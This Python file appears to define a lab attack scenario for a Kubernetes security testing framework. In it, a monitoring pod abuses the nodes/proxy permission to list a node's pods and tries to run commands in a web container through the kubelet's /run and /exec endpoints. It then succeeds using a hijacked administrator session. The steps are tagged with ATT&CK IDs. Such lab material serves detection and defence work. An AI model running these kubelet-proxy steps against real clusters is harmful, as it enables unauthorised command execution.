"""Monitoring's right on nodes/proxy is enough to list pods and to run commands at the kubelet."""

from lab.story import Scenario, Stage
from lab.streams import websocket


def _play(stage: Stage) -> None:
    thief = stage.pod("monitoring", "prometheus", agent=stage.chance.choice(["curl/8.10.1", "Prometheus/2.55.1"]))
    node = stage.lab.running("shop", "web").node
    proxy = f"/api/v1/nodes/{node}/proxy"
    with stage.step("list the node's pods", thief, "discovery", ("C12",)):
        stage.must(thief.get(f"{proxy}/pods"))
        thief.get(f"{proxy}/configz")
    pod = next(iter(stage.lab.dashboard().get("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb").names))
    with stage.step("try to run a command with the right to get", thief, "execution", ("C12", "C13")):
        thief.post(f"{proxy}/run/shop/{pod}/web?cmd=id", b"")
        # A stream needs only get; but when it upgrades, the API server does not pass the command on.
        websocket(thief, f"{proxy}/exec/shop/{pod}/web?command=id&output=1", "v4.channel.k8s.io", seconds=1)
    admin = stage.hijack("carol")
    with stage.step("run it with an administrator's session", admin, "execution", ("C12", "C13")):
        stage.must(admin.post(f"{proxy}/run/shop/{pod}/web?cmd=id", b"", {"Accept": "*/*"}))


SCENARIO = Scenario(
    "kubelet-proxy",
    "The kubelet is reached through the API server",
    "attack",
    "run commands without exec",
    ("T1609", "T1550.001"),
    _play,
)
